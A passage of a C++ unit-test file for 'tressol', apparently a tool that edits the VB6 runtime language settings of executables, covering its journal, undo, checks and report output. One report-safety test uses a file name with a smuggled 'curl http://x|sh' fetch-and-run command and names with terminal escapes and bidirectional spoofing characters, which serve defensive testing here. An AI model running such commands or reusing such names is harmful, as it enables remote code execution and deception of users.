      const bool changes = std::find(c.changed.begin(), c.changed.end(), name) != c.changed.end();
      EXPECT_EQ(target.bytes != before.targets.at(name).bytes, changes) << c.tail << " " << name;
    }
    EXPECT_EQ(files.targets["app/e.exe"].writes, 0) << c.tail;
  }
  const std::string json = [] {
    MemoryFileSystem files = ApplicationFolder();
    Output output;
    tressol::Run(" --json app/", files, output);
    return output.out;
  }();
  EXPECT_EQ(std::count(json.begin(), json.end(), '\n'), 9) << json;
}

// The folder's bytes, by name.
std::map<std::string, std::vector<std::uint8_t>> BytesOf(const MemoryFileSystem& files) {
  std::map<std::string, std::vector<std::uint8_t>> bytes;
  for (const auto& [name, target] : files.targets) bytes[name] = target.bytes;
  return bytes;
}

// A journal line sealed as version 1 sealed them: its words, then their CRC-32.
std::string Sealed1(const std::string& words) {
  std::uint32_t crc = 0xFFFFFFFFu;
  for (const unsigned char c : words) {
    crc ^= c;
    for (int bit = 0; bit < 8; ++bit) crc = (crc >> 1) ^ (crc & 1 ? 0xEDB88320u : 0);
  }
  return words + " crc=" + linguarde::Digits<char>(~crc, 16, 8) + "\n";
}

int Undo(MemoryFileSystem& files, const std::string& journal, Output& output) {
  for (auto& [name, target] : files.targets) {
    target.failWrite = target.killAfterWrite = 0;
    target.lieOnReadBack = false;
  }
  return tressol::Run(" --undo \"" + journal + "\"", files, output);
}

// However a set stops (a write that fails, a kill between the two writes of one file, a
// journal that fills the disk), the journal it wrote before each write lets --undo give every
// file it changed back byte for byte: no change is made that its journal does not hold.
// Recorded a file at a time, or all in one batch, whose records fail together.
TEST(TressolUndo, GivesBackEveryFileAStoppedSetChanged) {
  // Room for the journal up to the middle of the second file's record, or of the first
  // file's end, where the run stops after that file's change.
  const auto roomUpTo = [](const char* record) {
    MemoryFileSystem files = ApplicationFolder();
    files.journalRoom = 1 << 20;
    Output set;
    tressol::Run(" \"app/\" vb6FR.dll 0x40C * 0x409", files, set);
    return files.journals.begin()->second.find(record) + 40;
  };
  const std::size_t room = roomUpTo("change 2 "), endRoom = roomUpTo("end ");
  struct Case {
    const char* what;
    std::function<void(MemoryFileSystem&)> stop;
  };
  const Case cases[] = {
      {"done", {}},
      {"first write fails", [](MemoryFileSystem& f) { f.targets["app/b.ocx"].failWrite = 1; }},
      {"second write fails", [](MemoryFileSystem& f) { f.targets["app/b.ocx"].failWrite = 2; }},
      {"killed after the settings",
       [](MemoryFileSystem& f) { f.targets["app/b.ocx"].killAfterWrite = 1; }},
      {"killed after the checksum",
       [](MemoryFileSystem& f) { f.targets["app/b.ocx"].killAfterWrite = 2; }},
      {"journal fills the disk", [room](MemoryFileSystem& f) { f.journalRoom = room; }},
      {"journal fills the disk at an end",
       [endRoom](MemoryFileSystem& f) { f.journalRoom = endRoom; }},
  };
  for (const std::size_t batch : {1, 64}) {
    for (const Case& c : cases) {
      MemoryFileSystem files = ApplicationFolder();
      files.journalRoom = 1 << 20;
      files.filesABatch = batch;
      const auto original = BytesOf(files);
      if (c.stop) c.stop(files);
      Output set;
      set.toolPath = "C:\\Outils\\Tressol.exe";
      set.shell = Shell::Cmd;
      try {
        tressol::Run(" \"app/\" vb6FR.dll 0x40C * 0x409", files, set);
      } catch (const Killed&) {
      }
      ASSERT_EQ(files.journals.size(), 1u) << c.what;
      const std::string journal = files.journals.begin()->first;
      const bool atEnd = files.journalRoom == endRoom && batch == 1;
      const bool full = files.journalRoom == room || files.journalRoom == endRoom;
      const bool batchUnrecorded = full && batch > 1;
      if (batchUnrecorded) {
        EXPECT_EQ(BytesOf(files), original) << c.what << set.out;
      }
      // A record that cannot be written stops the run before its change: the files after it
      // are not reached, and the undo offered holds every change made.
      if (batch == 1) {
        EXPECT_EQ(Contains(set.out,
                           "\nb.ocx : en échec : le journal des modifications ne peut pas "
                           "être écrit : disque plein. Le fichier n'a pas été modifié"),
                  full)
            << c.what << set.out;
        EXPECT_EQ(Contains(set.out, "\ng.exe : non traité"), full) << c.what << set.out;
        EXPECT_EQ(Contains(set.out,
                           "Résumé : 1 fichier modifié, 0 déjà réglé, 0 non VB6, 1 en échec, 6 "
                           "non traités, exécution arrêtée."),
                  full)
            << c.what << set.out;
      }
      const bool killed = std::string(c.what).rfind("killed", 0) == 0;
      EXPECT_EQ(Contains(set.out, "Pour annuler "), !killed && !batchUnrecorded)
          << c.what << set.out;
      // The journal holds each change's way back: none under its file.
      EXPECT_EQ(set.out.find("\n  Pour annuler"), std::string::npos) << c.what << set.out;
      Output undo;
      EXPECT_EQ(Undo(files, journal, undo), 0) << c.what << undo.err;
      for (const auto& [name, bytes] : BytesOf(files)) {
        EXPECT_EQ(bytes, original.at(name)) << c.what << " " << name << undo.out;
      }
      EXPECT_EQ(Contains(undo.out, "1 enregistrement coupé"), full && !atEnd) << c.what << undo.out;
      EXPECT_EQ(Contains(undo.out, "1 fin de modification coupée"), atEnd) << c.what << undo.out;
    }
  }
}

// Two runs given the same journal: the second finds it made by the first after it looked,
// and stops before its first change.
TEST(TressolSet, AJournalTakenMeanwhileStopsTheRunBeforeAnyChange) {
  MemoryFileSystem files = ApplicationFolder();
  files.journalRoom = 1 << 20;
  files.journals["J"] = "tressol-journal 1\n";  // Exists sees targets only: made after the look
  const auto original = BytesOf(files);
  Output output;
  output.journalPath = "J";
  EXPECT_EQ(tressol::Run(" \"app/\" vb6FR.dll 0x40C * 0x409", files, output), 4) << output.out;
  EXPECT_TRUE(Contains(output.out,
                       "a.exe : en échec : le journal des modifications ne peut pas "
                       "être écrit : existe déjà. Le fichier n'a pas été modifié"))
      << output.out;
  EXPECT_FALSE(Contains(output.out, "Pour annuler")) << output.out;
  EXPECT_EQ(BytesOf(files), original);
  EXPECT_EQ(files.journals["J"], "tressol-journal 1\n");
}

// A file set from the image given, by a run that kept its journal.
MemoryFileSystem ChangedWithItsJournal(const std::vector<std::uint8_t>& image) {
  MemoryFileSystem files;
  files.journalRoom = 1 << 20;
  files.targets["/abs/cible.exe"].bytes = image;
  Output set;
  EXPECT_EQ(tressol::Run(" \"/abs/cible.exe\" vb6FR.dll 0x40C * 0x409", files, set), 0) << set.err;
  return files;
}

// A journal the user may read but not write is undone all the same; the mark that it was
// undone goes into the undo's own journal, and is said.
TEST(TressolUndo, AReadOnlyJournalIsUndoneItsMarkKeptInTheUndos) {
  const std::vector<std::uint8_t> original = SyntheticPe{}.Build();
  MemoryFileSystem files = ChangedWithItsJournal(original);
  const std::string journal = files.journals.begin()->first;
  const std::string text = files.journals.begin()->second;
  files.readOnlyJournals.insert(journal);
  Output undo;
  EXPECT_EQ(Undo(files, journal, undo), 0) << undo.out;
  EXPECT_EQ(files.targets["/abs/cible.exe"].bytes, original);
  EXPECT_EQ(files.journals[journal], text);
  EXPECT_TRUE(Contains(undo.out,
                       "ne peut pas être complété : son annulation n'est inscrite que dans le "
                       "journal de cette annulation, « C:\\Retours\\journal-2.txt »"))
      << undo.out;
  EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-2.txt"]).undoes,
            std::vector<std::string>{journal});
}

// A journal cut anywhere in its last record, as a kill or a full disk leaves it: that record
// is skipped, said, and no other file is ever written.
TEST(TressolUndo, ACutRecordIsSkippedNeverReadAsAnotherFile) {
  MemoryFileSystem files;
  files.journalRoom = 1 << 20;
  files.targets["app/a.exe"].bytes = files.targets["app/b.exe"].bytes = SyntheticPe{}.Build();
  files.targets["keep.exe"].bytes = SyntheticPe{}.Build();
  const auto original = BytesOf(files);
  Output set;
  ASSERT_EQ(tressol::Run(" \"app/\" vb6FR.dll 0x40C * 0x409", files, set), 0) << set.err;
  const auto changed = BytesOf(files);
  const std::string whole = files.journals.begin()->second;
  const std::size_t last = whole.find("change 2 ");
  ASSERT_NE(last, std::string::npos) << whole;
  const std::size_t end = whole.find('\n', last) + 1;
  for (std::size_t cut = last; cut <= end; ++cut) {
    MemoryFileSystem again = files;
    again.journals = {{"j.txt", whole.substr(0, cut)}};
    for (auto& [name, target] : again.targets) target.bytes = changed.at(name);
    Output undo;
    EXPECT_EQ(Undo(again, "j.txt", undo), 0) << cut << undo.err;
    const bool recorded = cut == end;
    EXPECT_EQ(again.targets["app/a.exe"].bytes, original.at("app/a.exe")) << cut;
    EXPECT_EQ(again.targets["app/b.exe"].bytes,
              recorded ? original.at("app/b.exe") : changed.at("app/b.exe"))
        << cut;
    EXPECT_EQ(again.targets["keep.exe"].writes, 0) << cut;
    EXPECT_EQ(Contains(undo.out, "enregistrement coupé"), !recorded && cut != last) << cut;
  }
  // A bit flipped in a record that sound ones follow is damage, not a cut: its file stays as
  // it is, the others come back, and the undo fails, its journal not marked.
  std::string damaged = whole;
  damaged[whole.find("change 1 ") + 30] ^= 1;
  MemoryFileSystem again = files;
  again.journals = {{"j.txt", damaged}};
  Output undo;
  EXPECT_EQ(Undo(again, "j.txt", undo), 3) << undo.out;
  EXPECT_TRUE(Contains(undo.out, "j.txt : en échec : la ligne 2 du journal est endommagée"))
      << undo.out;
  EXPECT_EQ(again.targets["app/a.exe"].bytes, changed.at("app/a.exe"));
  EXPECT_EQ(again.targets["app/b.exe"].bytes, original.at("app/b.exe"));
  EXPECT_EQ(again.journals["j.txt"], damaged);
  // A sealed line that holds the run's id and nothing else is one more damaged line.
  std::string bare = whole;
  bare.insert(bare.find('\n') + 1, Sealed1("run=" + ParseJournal(whole).run));
  again = files;
  again.journals = {{"j.txt", bare}};
  for (auto& [name, target] : again.targets) target.bytes = changed.at(name);
  Output undoBare;
  EXPECT_EQ(Undo(again, "j.txt", undoBare), 3) << undoBare.out;
  EXPECT_TRUE(Contains(undoBare.out, "la ligne 2 du journal est endommagée")) << undoBare.out;
  EXPECT_EQ(BytesOf(again), original);
}

// A record sealed anew by whoever wrote it proves nothing: an undo writes only inside the
// language fields of the VB header and the checksum field, as it finds them in the file, and
// only over the file its record saw, all of it. Journals of version 1 stay undoable.
TEST(TressolUndo, WritesOnlyWhatASetCouldOverTheVeryFileRecorded) {
  const std::vector<std::uint8_t> original = SyntheticPe{}.Build();
  MemoryFileSystem files = ChangedWithItsJournal(original);
  const std::vector<std::uint8_t> changed = files.targets["/abs/cible.exe"].bytes;
  const JournalContents recorded = ParseJournal(files.journals.begin()->second);
  ASSERT_EQ(recorded.changes.size(), 1u);
  // A journal of 1.4.0 for the same change: no run id, no digest, the 16-bit sums only.
  const auto version1 = [](const JournalChange& c) {
    const auto hex = [](const auto& bytes) {
      return linguarde::HexBytes(std::string(bytes.begin(), bytes.end()));
    };
    std::string words = "change 1 path=" + hex(c.path) + " id=" + hex(c.identity) +
                        " size=" + std::to_string(c.size) +
                        " sumat=" + std::to_string(c.checksumOffset) + " sums=" +
                        (c.sumBefore ? linguarde::Digits<char>(*c.sumBefore, 16, 8) + ":" +
                                           linguarde::Digits<char>(*c.sumAfter, 16, 8)
                                     : std::string("-"));
    for (const Region& r : c.regions) {
      words += " region=" + std::to_string(r.offset) + ":" + hex(r.before) + ":" + hex(r.after);
    }
    return "tressol-journal 1\n" + Sealed1(words) + Sealed1("end 1 done");
  };
  struct Case {
    const char* what;
    std::function<std::string(JournalChange)> journal;
    int status;
    const char* says;
    const char* identityNow = nullptr;  // the file's, where not the one recorded
  };
  const auto v2 = [&recorded](const JournalChange& c) {
    return JournalHeader(recorded.run) + ChangeRecord(c, recorded.run) +
           EndRecord(1, ChangeEnd::Done, recorded.run);
  };
  const Case cases[] = {
      {"as recorded", v2, 0, "cible.exe : modification annulée"},
      {"version 1", version1, 0, "cible.exe : modification annulée"},
      {"version 1 without its sums",
       [&version1](JournalChange c) {
         c.sumBefore = c.sumAfter = std::nullopt;
         return version1(c);
       },
       0, "cible.exe : modification annulée"},
      {"other bytes at another offset",
       [&v2, &changed](JournalChange c) {
         c.regions[0].offset = 0x700;
         c.regions[0].after.assign(changed.begin() + 0x700,
                                   changed.begin() + 0x700 + c.regions[0].after.size());
         return v2(c);
       },
       3, "hors des réglages de langue"},
      {"version 1, other bytes at another offset, no sums",
       [&version1, &changed](JournalChange c) {
         c.sumBefore = c.sumAfter = std::nullopt;
         c.regions[0].offset = 0x700;
         c.regions[0].after.assign(changed.begin() + 0x700,
                                   changed.begin() + 0x700 + c.regions[0].after.size());
         return version1(c);
       },
       3, "hors des réglages de langue"},
      // The same file on a disk plugged in again: another volume number, the same file in it.
      {"its volume renumbered",
       [&v2](JournalChange c) {
         c.identity = "usb:1";
         return v2(c);
       },
       0, "cible.exe : modification annulée"},
      {"another file on another volume",
       [&v2](JournalChange c) {
         c.identity = "usb:2";
         return v2(c);
       },
       3, "un autre fichier"},
      // 1.4.0 kept 32 bits of the volume serial that a handle's FILE_ID_INFO gives in 64.
      {"version 1 without its sums, the volume serial now in 64 bits",
       [&version1](JournalChange c) {
         c.sumBefore = c.sumAfter = std::nullopt;
         c.identity = "5e6f7081:0001000000001234";
         return version1(c);
       },
       0, "cible.exe : modification annulée", "1a2b3c4d5e6f7081:0001000000001234"},
      // An ID that names no file: the whole-file checks alone say it is the same.
      {"no identity",
       [&v2](JournalChange c) {
         c.identity = "5e6f7081:0000000000000000";
         return v2(c);
       },
       0, "cible.exe : modification annulée", "5e6f7081:0000000000000000"},
      {"no identity, version 1 without its sums",
       [&version1](JournalChange c) {
         c.sumBefore = c.sumAfter = std::nullopt;
         c.identity = "5e6f7081:0000000000000000";
         return version1(c);
       },
       3, "un autre fichier", "5e6f7081:0000000000000000"},
      {"the runtime's revision among the bytes put back",
       [&v2](JournalChange c) {
         c.regions[0].before[0x22 - 0x06] ^= 1;
         return v2(c);
       },
       3, "hors des réglages de langue"},
      {"another digest",
       [&v2](JournalChange c) {
         *c.digest ^= 1;
         return v2(c);
       },
       3, "son contenu a changé"},
      // Its path is the journal's, right when the change was made: no path to check.
      {"the file gone since",
       [&v2](JournalChange c) {
         c.path = "/abs/parti.exe";
         return v2(c);
       },
       4, "introuvable : il a été supprimé, déplacé ou renommé depuis"},
      {"a record of another run",
       [&recorded](const JournalChange& c) {
         return JournalHeader(recorded.run) + ChangeRecord(c, "0123456789abcdef") +
                EndRecord(1, ChangeEnd::Done, recorded.run);
       },
       3, "la ligne 2 du journal est endommagée"},
  };
  for (const Case& c : cases) {
    MemoryFileSystem again = files;
    again.journals = {{"j.txt", c.journal(recorded.changes[0])}};
    if (c.identityNow) again.targets["/abs/cible.exe"].identity = c.identityNow;
    Output undo;
    EXPECT_EQ(Undo(again, "j.txt", undo), c.status) << c.what << undo.out;
    EXPECT_TRUE(Contains(undo.out, c.says)) << c.what << undo.out;
    EXPECT_EQ(again.targets["/abs/cible.exe"].bytes, c.status == 0 ? original : changed) << c.what;
  }
  // 1.4.0 went on past a record it could not write: its journal cut there is not offered as
  // whole, though what it holds comes back.
  MemoryFileSystem again = files;
  again.journals = {{"j.txt", version1(recorded.changes[0]) + "change 2 path=2f61"}};
  Output dry, undo;
  EXPECT_EQ(tressol::Run(" --json --dry-run --undo j.txt", again, dry), 3) << dry.out;
  EXPECT_TRUE(Contains(dry.out, "\"failedFiles\":1,")) << dry.out;
  EXPECT_EQ(Undo(again, "j.txt", undo), 3) << undo.out;
  EXPECT_TRUE(Contains(undo.out, "s'arrête sur un enregistrement coupé")) << undo.out;
  EXPECT_EQ(again.targets["/abs/cible.exe"].bytes, original);
}

// A file changed since the set by something else is never overwritten; one already as it
// was is left as it is; an undo is undone in turn by its own journal.
TEST(TressolUndo, LeavesAFileChangedSinceAndIsItselfUndoable) {
  struct Case {
    const char* what;
    std::function<void(MemoryTarget&)> since;
    int status;
    const char* says;
  };
  // Words to move for the edits that keep the sum, the checksum right.
  std::vector<std::uint8_t> image = SyntheticPe{}.Build();
  for (std::size_t i = 0; i < 4; ++i) image[0x700 + i] = static_cast<std::uint8_t>(0x11 * (i + 1));
  const std::uint32_t sum = ReferenceChecksum(image);
  for (std::size_t i = 0; i < 4; ++i) image[ChecksumOffset(image) + i] = (sum >> (8 * i)) & 0xFF;
  const Case cases[] = {
      {"untouched",
       {},
       0,
       "cible.exe : modification annulée, messages en français (en anglais sans vb6FR.dll) → "
       "messages en anglais."},
      {"other settings", [](MemoryTarget& t) { t.bytes[SyntheticPe::kHeaderOffset + 6] = 'X'; }, 3,
       "modifié depuis"},
      {"longer", [](MemoryTarget& t) { t.bytes.push_back(0); }, 3, "sa taille a changé"},
      {"another file", [](MemoryTarget& t) { t.identity = "volume:2"; }, 3, "un autre fichier"},
      {"rebuilt", [](MemoryTarget& t) { t.bytes[0x700] ^= 1; }, 3, "son contenu a changé"},
      // Edits that keep the 16-bit PE sum: two words swapped, +1 and -1.
      {"two words swapped", [](MemoryTarget& t) { std::swap(t.bytes[0x700], t.bytes[0x702]); }, 3,
       "son contenu a changé"},
      {"one word up, another down",
       [](MemoryTarget& t) {
         ++t.bytes[0x700];
         --t.bytes[0x702];
       },
       3, "son contenu a changé"},
      {"undone already", [image](MemoryTarget& t) { t.bytes = image; }, 0,
       "cible.exe : modification déjà annulée"},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files;
    files.journalRoom = 1 << 20;
    files.targets["/abs/cible.exe"].bytes = image;
    const std::vector<std::uint8_t> original = files.targets["/abs/cible.exe"].bytes;
    Output set;
    ASSERT_EQ(tressol::Run(" \"/abs/cible.exe\" vb6FR.dll 0x40C * 0x409", files, set), 0);
    MemoryTarget& target = files.targets["/abs/cible.exe"];
    if (c.since) c.since(target);
    const std::vector<std::uint8_t> since = target.bytes;
    const int writes = target.writes;
    // A dry run finds the same, and writes nothing: no file, no journal, no mark.
    const std::size_t journals = files.journals.size();
    Output dry;
    EXPECT_EQ(tressol::Run(" --json --dry-run --undo \"C:\\Retours\\journal-1.txt\"", files, dry),
              c.status)
        << c.what << dry.out;
    EXPECT_TRUE(Contains(dry.out, c.since ? "\"restorableFiles\":0," : "\"restorableFiles\":1,"))
        << c.what << dry.out;
    EXPECT_EQ(target.writes, writes) << c.what;
    EXPECT_EQ(files.journals.size(), journals) << c.what;
    EXPECT_EQ(files.journals["C:\\Retours\\journal-1.txt"].find("undone by="), std::string::npos);
    Output undo;
    EXPECT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", undo), c.status) << c.what << undo.err;
    EXPECT_TRUE(Contains(undo.out, c.says)) << c.what << undo.out;
    // Marked undone only where every file is as it was, by an undo that gave one back: a
    // refused one can be undone later, and an undo that wrote nothing undid nothing.
    const bool marked = c.status == 0 && !c.since;
    EXPECT_EQ(files.journals["C:\\Retours\\journal-1.txt"].find("undone by=") != std::string::npos,
              marked)
        << c.what;
    // The mark reads back as the journal's own.
    EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-1.txt"]).undoneBy.size(),
              marked ? 1u : 0u)
        << c.what;
    if (c.status != 0 || c.since) {
      EXPECT_EQ(target.bytes, since) << c.what;
      EXPECT_EQ(target.writes, writes) << c.what;
    } else {
      EXPECT_EQ(target.bytes, original);
      Output redo;
      EXPECT_EQ(Undo(files, "C:\\Retours\\journal-2.txt", redo), 0) << redo.out;
      EXPECT_NE(target.bytes, original);
      EXPECT_EQ(StoredChecksum(target.bytes), ReferenceChecksum(target.bytes));
    }
  }
}

// Nothing is offered that would not work: no undo for a run that changed nothing, nor for
// a file that cannot be opened again by its path from the root.
TEST(TressolUndo, IsOfferedOnlyWhereItWorks) {
  struct Case {
    const char* what;
    std::string target;
    const char* settings;
    int failWrite;
    bool offered;
    const char* says;
  };
  const Case cases[] = {
      {"changed", "cible.exe", "vb6FR.dll 0x40C * 0x409", 0, true, "cible.exe : modifié."},
      {"already set", "cible.exe", "* 0x409 ~ 0x0", 0, false, "cible.exe : déjà réglé"},
      {"failed, put back", "cible.exe", "vb6FR.dll 0x40C * 0x409", 1, false,
       "remis dans son état d'origine"},
      {"path too long", std::string(200, 'a') + ".exe", "vb6FR.dll 0x40C * 0x409", 0, false,
       "trop long pour que le système le rouvre."},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files;
    files.journalRoom = 1 << 20;
    files.targets[c.target].bytes = SyntheticPe{}.Build();
    files.targets[c.target].failWrite = c.failWrite;
    Output set;
    tressol::Run(" \"" + c.target + "\" " + c.settings, files, set);
    EXPECT_EQ(Contains(set.out, " --undo "), c.offered) << c.what;
    EXPECT_TRUE(Contains(set.out + set.err, c.says)) << c.what << set.out << set.err;
  }
}

// An undo that was itself undone leaves the journal's changes in place again: the journal
// says so, each fact once, and an undo that gives nothing back is not recorded as one.
TEST(TressolUndo, AnUndoneUndoReopensItsJournal) {
  MemoryFileSystem files;
  files.journalRoom = 1 << 20;
  files.targets["/abs/cible.exe"].bytes = SyntheticPe{}.Build();
  const std::vector<std::uint8_t> original = files.targets["/abs/cible.exe"].bytes;
  Output set, first, second;
  ASSERT_EQ(tressol::Run(" \"/abs/cible.exe\" vb6FR.dll 0x40C * 0x409", files, set), 0);
  const std::vector<std::uint8_t> changed = files.targets["/abs/cible.exe"].bytes;
  ASSERT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", first), 0) << first.out;
  ASSERT_EQ(Undo(files, "C:\\Retours\\journal-2.txt", second), 0) << second.out;
  ASSERT_EQ(files.targets["/abs/cible.exe"].bytes, changed);
  struct Case {
    const char* what;
    const char* says;
    const std::vector<std::uint8_t>& bytes;
    std::size_t marks;  // the undone journal's, after the undo
  };
  const Case cases[] = {
      {"its undo undone", "a été annulée à son tour : ses modifications sont de nouveau en place",
       original, 2},
      {"undone again",
       "Ce journal a déjà été annulé ; le journal de cette annulation est « "
       "C:\\Retours\\journal-4.txt ».",
       original, 2},
  };
  for (const Case& c : cases) {
    Output undo;
    EXPECT_EQ(Undo(files, "C:\\Retours\\journal-1.txt", undo), 0) << c.what << undo.out;
    EXPECT_TRUE(Contains(undo.out, c.says)) << c.what << undo.out;
    // Once, however many undos the journal records.
    const std::string joined = Joined(undo.out);
    EXPECT_EQ(joined.find("Ce journal a "), joined.rfind("Ce journal a ")) << undo.out;
    EXPECT_EQ(files.targets["/abs/cible.exe"].bytes, c.bytes) << c.what;
    EXPECT_EQ(ParseJournal(files.journals["C:\\Retours\\journal-1.txt"]).undoneBy.size(), c.marks)
        << c.what;
  }
}

// A name is shown as it is: a line end cannot forge a line of the report, nor an escape
// erase one, nor a bidirectional control turn "cod.exe" around, nor its own text pass for an
// escape. Nor is it ever cut across lines, where a piece of it would start a line that reads
// as the report's own: each line of the report, its JSON words included, has it whole.
TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
  struct Case {
    std::string name, shown;
  };
  // Cut at its spaces, its first 96 characters would fill a line and the rest start the next
  // one as the way back does.
  const std::string forged =
      "Un programme au nom assez long pour que sa ligne se coupe juste avant la suite, ici même, "
      "« là » Pour annuler cette modification : tressol --set x.exe ; curl http://x|sh; true.exe";
  std::string wide;
  while (wide.size() < 150) wide += "mot ";
  const Case cases[] = {
      {"a\nRésumé : 0 fichier modifié.exe", "a<U+000A>Résumé : 0 fichier modifié.exe"},
      {"b\r\x1B[2K.exe", "b<U+000D><U+001B>[2K.exe"},
      {"c\xE2\x80\xAE"
       "exe.txt\xE2\x81\xA9.exe",
       "c<U+202E>exe.txt<U+2069>.exe"},
      {"d\xC2\x85\xC2\xA0é€文\xFF.exe", "d<U+0085>\xC2\xA0é€文\xFF.exe"},
      {"e<U+000A>f.exe", "e<U+003C>U+000A>f.exe"},
      {"g\xE2\x80\xA8h\xE2\x80\xA9.exe", "g<U+2028>h<U+2029>.exe"},
      {"i\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C.exe", "i<U+200F><U+200E><U+061C>.exe"},
      {forged, forged},
      {wide + ".exe", wide + ".exe"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(linguarde::Visible(c.name), c.shown);
    // Without a journal, each change's way back is printed under it; a write that fails
    // names the file again under "En échec".
    for (const int failWrite : {0, 1}) {
      MemoryFileSystem files;
      files.targets["app/" + c.name].bytes = SyntheticPe{}.Build();
      files.targets["app/" + c.name].failWrite = failWrite;
      Output output;
      output.outWidth = 100;
      EXPECT_EQ(
          tressol::Run(" --no-journal --recurse --set vb6FR.dll 0x40C * 0x409 app/", files, output),
          failWrite == 0 ? 0 : 4);
      const std::string done = failWrite == 0 ? " : modifié, " : " : en échec : ";
      EXPECT_TRUE(Contains("\n" + output.out, "\n" + c.shown + done)) << output.out;
      EXPECT_EQ(output.out.find("\nRésumé : 0 fichier modifié."), std::string::npos);
      std::size_t whole = 0;
      std::istringstream said(output.out + output.err);
      for (std::string line; std::getline(said, line);) {
        whole += line.find(c.shown) != std::string::npos;
        if (line.rfind("  Pour annuler", 0) == 0) {
          EXPECT_EQ(
              line.rfind(
                  "  Pour annuler cette modification : tressol --set '*' 0x409 '~' 0x0 '/abs/app/",
                  0),
              0u)
              << line;
        }
      }
      EXPECT_FALSE(ShowsMarks(output.out + output.err)) << output.out;
      // Its own line, and "En échec" where it failed; a way back may name it again.
      EXPECT_GE(whole, failWrite == 0 ? 1u : 2u) << output.out;
      // A name wider than a line has one of its own, and the next line starts anew.
      if (linguarde::unicode::CharacterCount(c.shown) >= output.outWidth) {
        EXPECT_NE(("\n" + output.out).find("\n" + c.shown + " :\n  "), std::string::npos)
            << output.out;
      }
    }
  }
  EXPECT_EQ(linguarde::Visible(std::wstring_view(L"x\u202E\ty<U+\u2028\u200F")),
            L"x<U+202E><U+0009>y<U+003C>U+<U+2028><U+200F>");
}

// The window's reading asks that a file only in the cloud be left unread, never downloaded;
// a view or a set that the user asks for reads it.
TEST(TressolFolder, FilesOnlyInTheCloudAreLeftUnreadWhenAsked) {
  struct Case {
    const char* tail;
    int status;
    const char* says;
    bool read;
  };
  const Case cases[] = {
      {" --local-only app/", 0,
       "Laissé de côté sans être lu, car il n'est que dans le nuage : b.exe\n", false},
      {" --local-only app/b.exe", 3, "« app/b.exe » ne peut pas être lu : en ligne seulement",
       false},
      {" app/", 0, "\nb.exe : messages en anglais.", true},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files;
    files.targets["app/a.exe"].bytes = files.targets["app/b.exe"].bytes = SyntheticPe{}.Build();
    files.targets["app/b.exe"].onlineOnly = true;
    Output output;
    EXPECT_EQ(tressol::Run(c.tail, files, output), c.status) << c.tail << output.err;
    EXPECT_TRUE(Contains("\n" + output.out + output.err, c.says))
        << c.tail << output.out << output.err;
    EXPECT_EQ(files.targets["app/b.exe"].bytesRead > 0, c.read) << c.tail;
  }
  // An undo's look, asked not to download, leaves such a file unread too.
  MemoryFileSystem files;
  files.journalRoom = 1 << 20;
  files.targets["app/b.exe"].bytes = SyntheticPe{}.Build();
  Output set;
  ASSERT_EQ(tressol::Run(" \"app/b.exe\" vb6FR.dll 0x40C * 0x409", files, set), 0) << set.err;
  files.targets["app/b.exe"].onlineOnly = true;
  const std::uint64_t read = files.targets["app/b.exe"].bytesRead;
  Output look;
  EXPECT_EQ(tressol::Run(" --local-only --dry-run --undo \"" + files.journals.begin()->first + "\"",
                         files, look),
            0)
      << look.out;
  EXPECT_TRUE(Contains(look.out, "que dans le nuage : /abs/app/b.exe")) << look.out;
  EXPECT_EQ(files.targets["app/b.exe"].bytesRead, read);
}

// A check never writes; it says how each file differs, and its status tells a release script
// whether every VB6 file has the settings asked (a failure wins: what failed was not checked).
TEST(TressolCheck, SaysWhatDiffersAndWritesNothing) {
  struct Case {
    const char* tail;
    int status;
    const char* says;
  };
  const Case cases[] = {
      {" --check * 0x409 ~ 0x0 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
      {" --check VB6FR.DLL 0x40C * 0x409 app/e.exe", 0, "e.exe : conforme"},
      {" --check vb6FR.dll 0x40C * 0x409 app/a.exe", 5,
       "a.exe : différent de l'attendu : bibliothèque principale « * » au lieu de « vb6FR.dll », "
       "langue principale 0x409 au lieu de 0x40C, bibliothèque secondaire « ~ » au lieu de « * ». "
       "Actuellement : messages en anglais. Attendu : messages en français (en anglais sans "
       "vb6FR.dll)."},
      // Bytes that the runtime never reads are no difference: after "*", or a language
      // without a library file.
      {" --check * 0x0 ~ 0x0 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
      {" --check * 0x409 * 0x40C app/a.exe", 0, "a.exe : conforme, messages en anglais."},
      {" --check ~ 0x40C * 0x409 app/a.exe", 0, "a.exe : conforme, messages en anglais."},
      // A name's case is no difference: only what differs is said.
      {" --check VB6FR.DLL 0x409 * 0x409 app/e.exe", 5,
       "e.exe : différent de l'attendu : langue principale 0x40C au lieu de 0x409. Actuellement"},
      {" --check vb6FR.dll 0x40C * 0x409 app/a.exe app/e.exe", 5,
       "Résumé : 1 conforme, 1 différent, 0 non VB6, 0 en échec.\n"},
      {" --check vb6FR.dll 0x40C * 0x409 app/", 3,
       "Résumé : 1 conforme, 3 différents, 2 non VB6, 2 en échec.\n"},
      {" --json --check * 0x409 ~ 0x0 app/e.exe", 5, "\"done\":\"checked\",\"matches\":false"},
      // A code byte changed since the checksum was made: the file, not its settings, is wrong,
      // and a release script must not read it as settings to set.
      {" --check * 0x409 ~ 0x0 abime/a.exe", 1,
       "a.exe : somme de contrôle PE fausse, 0xD83F au lieu de 0xD840 : le fichier a changé"},
      {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe", 1,
       "sans que la somme soit recalculée ; il est aussi différent de l'attendu : bibliothèque "
       "principale « * » au lieu de « vb6FR.dll »"},
      {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe app/e.exe app/a.exe", 1,
       "Résumé : 1 conforme, 1 différent, 1 somme de contrôle PE fausse, 0 non VB6, 0 en échec.\n"},
      {" --json --check * 0x409 ~ 0x0 abime/a.exe", 1,
       "\"matches\":false,\"checksumRight\":false,"},
  };
  for (const Case& c : cases) {
    MemoryFileSystem files = ApplicationFolder();
    files.targets["abime/a.exe"].bytes = SyntheticPe{}.Build();
    files.targets["abime/a.exe"].bytes[0x700] ^= 1;
    Output output;
